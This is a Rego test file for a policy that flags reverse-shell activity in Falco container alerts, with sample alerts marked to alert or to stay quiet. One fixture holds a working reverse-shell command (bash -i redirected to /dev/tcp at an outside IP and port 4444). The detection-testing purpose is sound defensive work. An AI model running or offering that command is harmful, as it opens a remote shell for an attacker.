package falco.reverse_shell_test

import data.falco.reverse_shell

test_input_and_output_on_a_connection_are_told if {
	count(reverse_shell.alert) == 1 with input as {
		"time": "2026-01-05T10:00:00.000000000Z",
		"rule": "Redirect STDOUT/STDIN to Network Connection in Container",
		"priority": "Notice",
		"output": "Redirect STDOUT/STDIN to Network Connection in Container",
		"source": "syscall",
		"hostname": "node-1",
		"tags": [],
		"output_fields": {
			"container.id": "3ad7b26ded6d",
			"container.name": "web",
			"container.image.repository": "registry.example.com/web",
			"k8s.ns.name": "shop",
			"k8s.pod.name": "web-5d8f",
			"user.name": "root",
			"proc.name": "python3",
			"proc.cmdline": "python3 -c x",
			"fd.name": "10.0.0.5:51234->203.0.113.9:4444",
			"fd.sip": "203.0.113.9",
		},
	}
}

test_a_known_command_is_told_whatever_the_rule if {
	count(reverse_shell.alert) == 1 with input as {
		"time": "2026-01-05T10:00:00.000000000Z",
		"rule": "Terminal shell in container",
		"priority": "Notice",
		"output": "Terminal shell in container",
		"source": "syscall",
		"hostname": "node-1",
		"tags": [],
		"output_fields": {
			"container.id": "3ad7b26ded6d",
			"container.name": "web",
			"container.image.repository": "registry.example.com/web",
			"k8s.ns.name": "shop",
			"k8s.pod.name": "web-5d8f",
			"user.name": "root",
			"proc.name": "bash",
			"proc.cmdline": "bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
			"proc.pname": "runc",
		},
	}
}

test_a_process_that_talks_to_itself_is_fine if {
	count(reverse_shell.alert) == 0 with input as {
		"time": "2026-01-05T10:00:00.000000000Z",
		"rule": "Redirect STDOUT/STDIN to Network Connection in Container",
		"priority": "Notice",
		"output": "Redirect STDOUT/STDIN to Network Connection in Container",
		"source": "syscall",
		"hostname": "node-1",
		"tags": [],
		"output_fields": {
			"container.id": "3ad7b26ded6d",
			"container.name": "web",
			"container.image.repository": "registry.example.com/web",
			"k8s.ns.name": "shop",
			"k8s.pod.name": "web-5d8f",
			"user.name": "root",
			"proc.cmdline": "healthcheck",
			"fd.name": "127.0.0.1:1->127.0.0.1:2",
			"fd.sip": "127.0.0.1",
		},
	}
}

test_a_port_check_is_fine if {
	count(reverse_shell.alert) == 0 with input as {
		"time": "2026-01-05T10:00:00.000000000Z",
		"rule": "Launch Suspicious Network Tool in Container",
		"priority": "Notice",
		"output": "Launch Suspicious Network Tool in Container",
		"source": "syscall",
		"hostname": "node-1",
		"tags": [],
		"output_fields": {
			"container.id": "3ad7b26ded6d",
			"container.name": "web",
			"container.image.repository": "registry.example.com/web",
			"k8s.ns.name": "shop",
			"k8s.pod.name": "web-5d8f",
			"user.name": "root",
			"proc.cmdline": "nc -z db 5432",
		},
	}
}
